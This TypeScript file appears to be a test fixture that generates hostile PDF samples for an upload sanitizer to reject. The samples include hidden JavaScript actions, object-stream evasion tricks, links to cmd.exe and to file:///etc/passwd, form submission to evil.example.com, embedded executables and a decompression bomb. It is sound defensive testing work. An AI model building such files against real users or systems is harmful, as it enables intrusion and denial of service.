import { deflateSync } from "node:zlib";
import { objectStream, pdf, stream, zip } from "../upload-files.ts";

/** A marker of the harmful part, detectable wherever a reader would find it. */
export const canary = "app.alert(4711)";
const script = `<< /S /JavaScript /JS (${canary.replaceAll(/[()]/g, "\\$&")}) >>`;
const html = `<html><script>${canary}</script></html>`;
const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024));
const call = { page: "/MediaBox [0 0 200 200]" };
const annotated = (annotation: string, more: string[] = []) =>
  pdf({
    page: `${call.page} /Annots [4 0 R]`,
    more: [`4 0 obj\n<< /Type /Annot /Rect [0 0 50 50] ${annotation} >>\nendobj\n`, ...more],
  });
const link = (action: string) => annotated(`/Subtype /Link /A ${action}`);
const javascriptLink = (address: string) => link(`<< /S /URI /URI ${address} >>`);

/** Returns an object stream with a script, with other bytes between its dictionary and its data. */
const streamAfter = (between: string) =>
  pdf({ catalog: "/OpenAction 9 0 R", more: [objectStream(script).replace("stream\n", `stream${between}`)] });
const packed = (dictionary: string) =>
  pdf({ catalog: "/OpenAction 9 0 R", more: [objectStream(script, `${dictionary} /N 1 /First 4`)] });

/** Appends an update that replaces an object, which readers follow. */
function updated(object: string, id: number): Buffer {
  const before = pdf();
  const text = before.toString("latin1");
  const first = /startxref\n(\d+)/.exec(text)?.[1] ?? "0";
  const xref = before.length + object.length;
  const entry = `${String(before.length).padStart(10, "0")} 00000 n \n`;
  const trailer = `trailer\n<< /Size 20 /Root 1 0 R /Prev ${first} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(`${text}${object}xref\n${id} 1\n${entry}${trailer}`, "latin1");
}

/** PDFs with actions, external references or embedded files; each must be rejected, or sanitized. */
export const hostilePdfs: Record<string, () => Buffer> = {
  "a script at opening": () => pdf({ catalog: `/OpenAction ${script}` }),
  "a script at opening, in an object": () =>
    pdf({ catalog: "/OpenAction 4 0 R", more: [`4 0 obj\n${script}\nendobj\n`] }),
  "a script with an escaped name": () => pdf({ catalog: `/OpenAction << /S /Java#53cript /#4A#53 (${canary}) >>` }),
  "a script in the tree of names": () =>
    pdf({ catalog: "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", more: [`4 0 obj\n${script}\nendobj\n`] }),
  "a script at closing": () => pdf({ catalog: `/AA << /WC ${script} /DS ${script} >>` }),
  "a script of a page": () => pdf({ page: `${call.page} /AA << /O ${script} >>` }),
  "a script behind another action": () =>
    pdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${script} >>` }),
  "a script in an outline": () =>
    pdf({ catalog: "/Outlines << /First 4 0 R >>", more: [`4 0 obj\n<< /Title (x) /A ${script} >>\nendobj\n`] }),
  "a script of a form's field": () => annotated(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${script} /F ${script} >>`),
  "a script that calculates": () => pdf({ catalog: `/AcroForm << /Fields [] /CO [4 0 R] /X ${script} >>` }),
  "a script in private data": () => pdf({ page: `${call.page} /PieceInfo << /X << /Private ${script} >> >>` }),
  "a script in a font": () =>
    pdf({ page: `${call.page} /Resources << /Font << /F << /Type /Font /Subtype /Type1 /A ${script} >> >> >>` }),
  "a script in a layer": () => pdf({ catalog: `/OCProperties << /OCGs [] /D << /A ${script} >> >>` }),
  "a script in an object stream": () => packed("/Type /ObjStm /Filter /FlateDecode"),
  "an object stream after a space": () => streamAfter(" \n"),
  "an object stream after a tab": () => streamAfter("\t\n"),
  "an object stream after a form feed": () => streamAfter("\f\n"),
  "an object stream after a comment": () => streamAfter("% x\n"),
  "an object stream after a carriage return": () => streamAfter("\r"),
  "an object stream of no type": () => packed("/Filter /FlateDecode"),
  "an object stream of an escaped type": () => packed("/Type /Obj#53tm /Filter [/FlateDecode]"),
  "an object stream packed twice": () => packed("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]"),
  "an object stream packed by another way": () => packed("/Type /ObjStm /Filter /LZWDecode"),
  "an object stream whose packing stands elsewhere": () => packed("/Type /ObjStm /Filter 8 0 R"),
  "an object stream with a misleading dictionary": () =>
    packed("/X (1 0 obj endobj) /Type /ObjStm /Filter /FlateDecode"),
  "an object stream behind a false comment": () => packed("/X (% (x) ) /Type /ObjStm /Filter /FlateDecode"),
  "an object stream that is a bomb": () =>
    pdf({ more: [stream(4, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bomb)] }),
  "a false stream": () =>
    pdf({ catalog: "/OpenAction 4 0 R", more: [`% >> stream\n4 0 obj\n${script}\nendobj\n% endstream\n`] }),
  "a script added by a later save": () =>
    updated(`1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>\nendobj\n`, 1),
  "a link to a script": () => javascriptLink(`(javascript:${canary.replaceAll(/[()]/g, "\\$&")})`),
  "a link to a script in capitals": () => javascriptLink(`( JaVaScRiPt:${canary.replaceAll(/[()]/g, "\\$&")})`),
  "a link to a script in hex": () => javascriptLink(`<${Buffer.from(`javascript:${canary}`).toString("hex")}>`),
  "a link to data": () => javascriptLink(`(data:text/html,${canary.replaceAll(/[()]/g, "\\$&")})`),
  "a link to a file": () => javascriptLink("(file:///etc/passwd)"),
  "a link that starts a program": () => link("<< /S /Launch /F (cmd.exe) >>"),
  "a link into another file": () => link("<< /S /GoToR /F (//evil.example.com/x) /D [0 /Fit] >>"),
  "a link into a carried file": () => link("<< /S /GoToE /T << /R /C /N (x) >> >>"),
  "a link that shows and hides": () => link("<< /S /Hide /T (a) /H false >>"),
  "a page opened on the web": () => pdf({ catalog: "/OpenAction << /S /URI /URI (https://evil.example.com) >>" }),
  "a form that sends itself": () =>
    annotated("/Subtype /Widget /FT /Btn /A << /S /SubmitForm /F (https://evil.example.com) >>"),
  "data brought into a form": () => link("<< /S /ImportData /F (x.fdf) >>"),
  "an XFA form": () => pdf({ catalog: "/AcroForm << /XFA 4 0 R >>", more: [stream(4, "", Buffer.from(html))] }),
  "a carried file": () =>
    pdf({
      catalog: "/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>",
      more: [
        "4 0 obj\n<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>\nendobj\n",
        stream(5, "/Type /EmbeddedFile", Buffer.from("MZ evil")),
      ],
    }),
  "a file on a page": () =>
    annotated("/Subtype /FileAttachment /FS << /F (x.exe) /EF << /F 5 0 R >> >>", [
      stream(5, "/Type /EmbeddedFile", Buffer.from("MZ evil")),
    ]),
  "a collection of files": () =>
    pdf({
      catalog: "/Collection << /View /D >> /AF [4 0 R]",
      more: [stream(4, "/Type /EmbeddedFile", Buffer.from("MZ evil"))],
    }),
  "moving pictures": () => annotated("/Subtype /RichMedia /RichMediaContent << /Assets 5 0 R >>"),
  "a film": () => annotated("/Subtype /Screen /A << /S /Rendition /OP 0 /R << /C << /D (x.avi) >> >> >>"),
  "a sound": () => link("<< /S /Sound /Sound 5 0 R >>"),
  "a body in space with a script": () =>
    annotated("/Subtype /3D /3DD << /OnInstantiate 5 0 R >>", [stream(5, "", Buffer.from(canary))]),
  "a program for printers": () =>
    pdf({
      page: `${call.page} /Resources << /XObject << /P 4 0 R >> >>`,
      more: [stream(4, "/Type /XObject /Subtype /PS", Buffer.from("(evil) run"))],
    }),
  "a picture that stands elsewhere": () =>
    pdf({
      page: `${call.page} /Resources << /XObject << /P 4 0 R >> >>`,
      more: [stream(4, "/Subtype /Image /Width 1 /Height 1 /F (//evil.example.com/x)", Buffer.from("x"))],
    }),
  "a form that points to another file": () =>
    pdf({
      page: `${call.page} /Resources << /XObject << /P 4 0 R >> >>`,
      more: [
        stream(4, "/Subtype /Form /BBox [0 0 1 1] /Ref << /F (//evil.example.com/x) /Page 0 >>", Buffer.from("q")),
      ],
    }),
  "facts that hold a page": () =>
    pdf({ catalog: "/Metadata 4 0 R", more: [stream(4, "/Type /Metadata /Subtype /XML", Buffer.from(html))] }),
  "a comment that is a page": () => pdf({ more: [`% ${html}\n`] }),
  "an archive within": () => pdf({ more: [`% ${zip().toString("latin1")}\n`] }),
  "no end to its nesting": () => pdf({ catalog: `/X ${"[".repeat(100_000)}` }),
  "pages that lead in circles": () =>
    pdf({ pages: "2 0 obj\n<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>\nendobj\n" }),
  "a table that leads in circles": () => pdf({ trailer: "/Prev 15" }),
  "a lock": () => pdf({ trailer: "/Encrypt 9 0 R" }),
  "a lock of its own": () =>
    pdf({ trailer: "/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -1 >> /ID [(a) (a)]" }),
};
